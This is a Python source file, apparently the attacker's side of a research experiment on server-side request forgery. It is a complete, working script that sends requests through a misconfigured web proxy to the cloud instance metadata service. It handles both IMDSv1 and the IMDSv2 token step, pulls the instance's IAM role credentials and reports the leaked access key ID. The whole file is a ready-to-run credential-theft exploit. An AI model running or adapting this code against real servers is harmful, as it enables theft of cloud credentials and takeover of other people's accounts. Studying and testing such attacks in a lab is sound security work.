"""The attacker's side of the imds-ssrf experiment: ask a web server that is an open proxy to
fetch the instance metadata service's IAM credentials, the way the 2019 breach did.

Steps, stopping at the first that fails:
1. GET  .../iam/security-credentials/          (IMDSv1: the role's name)
2. on 401, PUT /latest/api/token with a TTL     (IMDSv2: a session token)
   then GET .../iam/security-credentials/ with the token
3. GET  .../iam/security-credentials/ROLE       (the credentials)

Run in the attacker's host: ``python -m agents.ssrf_attack PROXY_IP[:PORT]``; prints one
JSON object: the steps (method, path, sent, answered, status or error) and the credentials'
AccessKeyId if they leaked.
"""

from __future__ import annotations

import argparse
import http.client
import json
import time
from typing import Optional

IMDS = "http://169.254.169.254"
CREDENTIALS = "/latest/meta-data/iam/security-credentials/"
TOKEN = "/latest/api/token"
TIMEOUT = 4.0  # longer than the proxy's own wait for the metadata service


class Attack:
    def __init__(self, proxy: str, imds: str = IMDS):
        host, _, port = proxy.partition(":")
        self.host, self.port, self.imds = host, int(port or 80), imds
        self.steps: list[dict] = []

    def ask(self, method: str, path: str, headers: Optional[dict] = None) -> Optional[str]:
        """One request through the proxy; the body on 200, else None (the step says why)."""
        step = {"method": method, "path": path, "sent": round(time.time(), 6)}
        self.steps.append(step)
        connection = http.client.HTTPConnection(self.host, self.port, timeout=TIMEOUT)
        try:
            connection.request(method, self.imds + path, headers=headers or {})
            reply = connection.getresponse()
            body = reply.read().decode(errors="replace")
        except TimeoutError:
            step.update(answered=round(time.time(), 6), error="timed out")
            return None
        except OSError as error:
            step.update(answered=round(time.time(), 6), error=error.strerror or str(error))
            return None
        finally:
            connection.close()
        step.update(answered=round(time.time(), 6), status=reply.status)
        return body if reply.status == 200 else None

    def run(self) -> dict:
        token_header: dict = {}
        roles = self.ask("GET", CREDENTIALS)
        if roles is None and self.steps[-1].get("status") == 401:
            token = self.ask("PUT", TOKEN, {"X-aws-ec2-metadata-token-ttl-seconds": "21600"})
            if token is not None:
                token_header = {"X-aws-ec2-metadata-token": token}
                roles = self.ask("GET", CREDENTIALS, token_header)
        if not roles:
            return {"steps": self.steps, "leaked": None}
        role = roles.split()[0]
        found = self.ask("GET", CREDENTIALS + role, token_header)
        leaked = json.loads(found)["AccessKeyId"] if found else None
        return {"steps": self.steps, "role": role, "leaked": leaked}


def main(argv=None) -> None:
    parser = argparse.ArgumentParser(description="steal IAM credentials through an open proxy (SSRF)")
    parser.add_argument("proxy", help="the web server's address[:port]")
    parser.add_argument("--imds", default=IMDS, help="the metadata service's URL, as the proxy sees it")
    options = parser.parse_args(argv)
    print(json.dumps(Attack(options.proxy, options.imds).run()), flush=True)


if __name__ == "__main__":
    main()
